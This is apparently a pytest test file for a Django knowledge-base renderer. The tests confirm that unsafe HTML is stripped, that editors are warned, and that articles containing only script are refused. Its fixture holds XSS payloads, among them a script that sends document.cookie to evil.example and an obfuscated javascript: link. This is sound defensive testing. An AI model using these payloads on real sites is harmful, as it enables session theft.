import pytest

from liaison.core.roles import Role
from liaison.kb.models import Article
from liaison.kb.rendering import render_markdown

pytestmark = pytest.mark.django_db

NASTY = """# Printing

Click **here**: [print portal](https://print.college.example).

<script>document.location='https://evil.example/?c='+document.cookie</script>
<img src="https://print.college.example/queue.png" alt="Queue" onerror="alert(1)">
<a href="javascript:alert(2)">free credit</a>
<a href="JAVA&#x09;SCRIPT:alert(3)">more</a>
<div onclick="alert(4)" style="position:fixed">overlay</div>
<iframe src="https://evil.example"></iframe>
"""


def test_rendering_keeps_markdown_and_removes_everything_unsafe():
    result = render_markdown(NASTY)
    html = result.html
    assert "<h2>Printing</h2>" in html  # the page owns the only <h1>
    assert "<strong>here</strong>" in html
    assert '<a href="https://print.college.example" rel="noopener noreferrer">print portal</a>' in html
    assert '<img src="https://print.college.example/queue.png" alt="Queue">' in html
    for bad in ("<script", "document.cookie", "onerror", "onclick", "javascript:", "JAVA", "<iframe", "style="):
        assert bad not in html, bad
    assert "overlay" in html  # the text of a stripped tag's attributes stays
    assert result.removed == [
        "<script> element and its content",
        "onerror event-handler attribute",
        "javascript: link",
        "onclick event-handler attribute",
        "style attribute on <div>",
        "<iframe> element and its content",
    ]


def test_clean_markdown_reports_nothing_removed():
    result = render_markdown("Use **eduroam**.\n\n| Lab | Software |\n|---|---|\n| 110 | SPSS |\n")
    assert result.removed == [] and "<table>" in result.html


def test_every_link_gets_noopener_noreferrer():
    html = render_markdown(
        '[a](https://x.example) <a href="/help/" rel="opener">b</a> <a href="mailto:it@c.edu">c</a>'
    ).html
    assert html.count('rel="noopener noreferrer"') == 3
    assert 'rel="opener"' not in html


def test_an_editor_is_warned_when_script_is_removed_and_readers_never_get_it(client_as):
    client = client_as(Role.LIBRARY_STAFF)
    response = client.post(
        "/kb/new/",
        {"title": "Printing", "body": NASTY, "audience": "public", "publish": "1", "idempotency_key": "n" * 32},
        follow=True,
    )
    assert response.status_code == 200
    page = response.content.decode()
    assert "Unsafe markup was removed from the article: &lt;script&gt; element and its content" in page
    article = Article.objects.get(slug="printing")
    assert "<script" not in article.body_html and "javascript:" not in article.body_html
    assert "<script" in article.body  # the editor's source is kept, never shown
    edit = client.get("/kb/printing/edit/").content.decode()
    assert 'id="kb-markup-warning"' in edit  # the form keeps warning until it is deleted
    public = client.get("/help/printing/").content.decode()
    assert "document.cookie" not in public and "onerror" not in public and "print portal" in public


def test_the_api_reports_removed_markup_as_a_warning_on_the_body_field(client_as):
    response = client_as(Role.IT_STAFF).post(
        "/api/v1/kb/articles",
        {"title": "Wi-Fi", "body": "Join eduroam.<script>alert(1)</script>"},
        content_type="application/json",
    )
    assert response.status_code == 201
    body = response.json()
    assert body["warnings"] == [
        {"field": "body", "message": "Unsafe markup was removed: <script> element and its content."}
    ]
    assert "<script" not in body["body_html"]


def test_an_article_that_is_nothing_but_script_is_refused_naming_the_body(client_as):
    client = client_as(Role.IT_STAFF)
    page = client.post(
        "/kb/new/",
        {"title": "Evil", "body": "<script>alert(1)</script>", "audience": "staff", "idempotency_key": "e" * 32},
    )
    assert page.status_code == 400
    assert "Nothing is left of the article" in " ".join(page.context["form"].errors["body"])
    api = client.post(
        "/api/v1/kb/articles", {"title": "Evil", "body": "<script>x()</script>"}, content_type="application/json"
    )
    assert api.status_code == 400 and api.json()["errors"][0]["field"] == "body"
    assert Article.objects.count() == 0


def test_the_form_warns_before_saving_clean_text_does_not(client_as):
    client = client_as(Role.IT_STAFF)
    clean = client.post(
        "/kb/new/",
        {"title": "Fine", "body": "All good.", "audience": "staff", "idempotency_key": "f" * 32},
        follow=True,
    )
    assert "Unsafe markup" not in clean.content.decode()
